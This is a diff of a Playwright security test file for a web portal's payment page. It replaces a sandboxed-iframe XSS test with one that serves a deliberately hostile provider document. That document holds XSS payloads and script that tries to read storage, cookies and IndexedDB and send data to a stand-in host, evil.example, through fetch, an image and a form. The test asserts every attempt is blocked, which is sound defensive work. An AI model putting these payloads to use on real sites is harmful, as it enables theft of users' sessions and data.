@@ -207,60 +207,89 @@ for (const mode of MODES) {
       await expect(page.getByRole('link', { name: 'Control banner' })).toBeVisible();
       await verdict(page, security, markers, 'section:has(> * > img[width="640"])', [`banners with the pictures of urls.txt`]);
     });
-
-    test('provider payment HTML runs only in the sandboxed frame', async ({ page, context, request, api, security }) => {
-      const markers = await armMarkers(context, page);
-      // The wallet page the API returns, plus what a hostile or compromised provider could send.
-      const hostile = [
-        '<script>parent.xss(9001)</script>',
-        '<img src=x onerror="parent.xss(9002)">',
-        '<a id="js-link" href="javascript:parent.xss(9003)">javascript link</a>',
-        '<form action="javascript:parent.xss(9004)"><button id="js-form">submit</button></form>',
-        '<script>localStorage.setItem("stolen", "1")</script>',
-      ].join('');
-      await context.route(apiPath('payments'), async (route) => {
-        if (route.request().method() !== 'POST') return route.fallback();
-        const real = v.parse(MakePaymentResponse, await (await route.fetch()).json());
-        await fulfilJson(route, MakePaymentResponse, { ...real, html_content: `${real.html_content}${hostile}` });
-      });
-      const who = await activeCustomer(request, api);
-      await logIn(page, t, who.email, who.password);
-      await expect(page).toHaveURL(/\/topPage$/);
-      await page.goto('/data-recharge');
-      await page.locator('label:has(input[type=radio])').first().click();
-      await page.getByRole('button', { name: t.recharge.purchase }).click();
-      await page.getByRole('button', { name: t.payment.methods.alipay }).click();
-      await page.getByRole('region', { name: t.payment.methods.alipay }).getByRole('button', { name: t.payment.register }).click();
-      // The wallet opens in this tab (decision 0022).
-      await page.getByRole('button', { name: t.payment.purchase }).click();
-      const wallet = page;
-      await expect(wallet).toHaveURL(/\/payment-external\?paymentId=/);
-
-      const sandbox = await wallet.locator('iframe').getAttribute('sandbox');
-      expect(sandbox, 'the frame is sandboxed').not.toBeNull();
-      expect(sandbox!.split(/\s+/).filter((token) => /^allow-(scripts|same-origin|top-navigation|popups|modals)/.test(token))).toEqual([]);
-
-      const frame = wallet.frameLocator('iframe');
-      await expect(frame.getByRole('link', { name: /^Continue to / })).toBeVisible();
-      await expect(frame.locator('#js-link')).toBeVisible();
-      // The provider's markup is in the frame's document only, never in the portal's (a page locator
-      // does not look into frames).
-      for (const selector of ['a[href*="/api/sandbox/wallet/"]', '#js-link', '#js-form', 'script:not([src])']) {
-        await expect(wallet.locator(selector), selector).toHaveCount(0);
-      }
-      // Following the javascript: link or submitting to one runs nothing either.
-      await frame.locator('#js-link').click();
-      await frame.locator('#js-form').click();
-      await wallet.waitForTimeout(750);
-      expect(await wallet.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
-      const executed = [...(await markers.all())];
-      expect(executed.map((hit) => `${hit.how} (${hit.id})`), 'provider script that ran').toEqual([]);
-      if (!mode.bypassCSP) {
-        // The policy, inherited by the srcdoc frame, stops the same two on its own; they were provoked on purpose.
-        const provoked = (v: { page: string; text: string }) => v.page === 'about:srcdoc' && /JavaScript URL|javascript:parent\.xss\(9004\)/.test(v.text);
-        expect(security.csp.list().filter(provoked)).toHaveLength(2);
-        security.csp.forget(provoked);
-      }
-    });
   });
 }
+
+/**
+ * A hostile or compromised provider's payment HTML (decision 0059): it runs, top level, as the spec
+ * wants the provider's page to run, but in a document of its own with an opaque origin. Whatever
+ * its scripts try, they cannot read or write the portal's storage, IndexedDB (where the session and
+ * its key live) or cookies, call the API with them, open a window, or send anything anywhere but the
+ * provider's configured origins. Under the CSP only: the sandbox IS the policy, and there is no
+ * sanitiser behind it to prove alone.
+ */
+test('provider payment HTML runs in a document of its own that cannot reach the portal\'s storage or session', async ({ page, context, request, api, security }) => {
+  test.setTimeout(120_000);
+  const beacons: string[] = [];
+  await context.route('https://evil.example/**', (route) => {
+    beacons.push(route.request().url());
+    return route.fulfill({ status: 204 });
+  });
+  const HOSTILE = `<!doctype html><title>Wallet</title><pre id="out"></pre>
+<script>
+const out = {};
+const probe = (name, f) => { try { out[name] = String(f()); } catch (e) { out[name] = 'denied: ' + e.name; } };
+probe('origin', () => self.origin);
+probe('localStorage', () => localStorage.getItem('i18nextLng'));
+probe('setItem', () => localStorage.setItem('stolen', '1'));
+probe('sessionStorage', () => sessionStorage.length);
+probe('cookie', () => document.cookie);
+probe('open', () => window.open('https://evil.example/popup'));
+probe('opener', () => window.opener);
+(async () => {
+  out.indexedDB = await new Promise((resolve) => {
+    try {
+      const req = indexedDB.open('portal-session');
+      req.onsuccess = () => resolve('opened: ' + Array.from(req.result.objectStoreNames).join(','));
+      req.onerror = () => resolve('denied: ' + (req.error && req.error.name));
+    } catch (e) { resolve('denied: ' + e.name); }
+  });
+  out.api = await fetch('/api/en/prepaid_users/profile', { credentials: 'include' }).then((r) => 'status ' + r.status, (e) => 'denied: ' + e.name);
+  out.beacon = await fetch('https://evil.example/beacon?' + encodeURIComponent(out.localStorage)).then(() => 'sent', (e) => 'denied: ' + e.name);
+  document.getElementById('out').textContent = JSON.stringify(out);
+})();
+</script>
+<img src="https://evil.example/pixel.gif" alt="">
+<form id="steal" method="post" action="https://evil.example/steal"><input name="x" value="y"></form>
+<script>document.getElementById('steal').submit();</script>`;
+  await context.route(apiPath('payments'), async (route) => {
+    if (route.request().method() !== 'POST') return route.fallback();
+    const real = v.parse(MakePaymentResponse, await (await route.fetch()).json());
+    await fulfilJson(route, MakePaymentResponse, { ...real, html_content: HOSTILE });
+  });
+  const who = await activeCustomer(request, api);
+  await logIn(page, t, who.email, who.password);
+  await expect(page).toHaveURL(/\/topPage$/);
+  const origin = new URL(page.url()).origin;
+  await page.goto('/data-recharge');
+  await page.locator('label:has(input[type=radio])').first().click();
+  await page.getByRole('button', { name: t.recharge.purchase }).click();
+  await page.getByRole('button', { name: t.payment.methods.alipay }).click();
+  await page.getByRole('region', { name: t.payment.methods.alipay }).getByRole('button', { name: t.payment.register }).click();
+  await page.getByRole('button', { name: t.payment.purchase }).click();
+
+  // The provider's document: top level in this tab (no frame), its scripts ran.
+  const out = page.locator('#out');
+  await expect(out).not.toBeEmpty({ timeout: 20_000 });
+  expect(page.frames()).toHaveLength(1);
+  expect(page.url()).toBe(`${origin}/payment-external`);
+  const seen = JSON.parse((await out.textContent())!) as Record<string, string>;
+  expect(seen.origin, 'an opaque origin, not the portal\'s').toBe('null');
+  for (const what of ['localStorage', 'setItem', 'sessionStorage', 'cookie']) expect(seen[what], what).toMatch(/^denied: SecurityError/);
+  expect(seen.indexedDB, 'IndexedDB, where the session and its key live').toMatch(/^denied/);
+  expect(seen.api, 'the API with the portal\'s credentials').toMatch(/^denied/);
+  expect(seen.beacon).toMatch(/^denied/);
+  expect([seen.open, seen.opener]).toEqual(['null', 'null']);
+  expect(beacons, 'requests that left for another origin').toEqual([]);
+  expect(context.pages()).toHaveLength(1);
+  // Its policy blocked what it tried; those were provoked on purpose.
+  const provoked = (found: { page: string; text: string }) => found.page.startsWith(`${origin}/payment-external`) || /evil\.example/.test(found.text);
+  expect(security.csp.list().filter(provoked).length).toBeGreaterThanOrEqual(3);
+  security.csp.forget(provoked);
+
+  // Back in the portal: signed in as before, nothing written into its storage.
+  await page.goBack();
+  await expect(page).toHaveURL(/\/payment-external\?paymentId=/);
+  await expect(page.getByRole('link', { name: t.payment.external.toOrder })).toBeVisible();
+  expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
+});
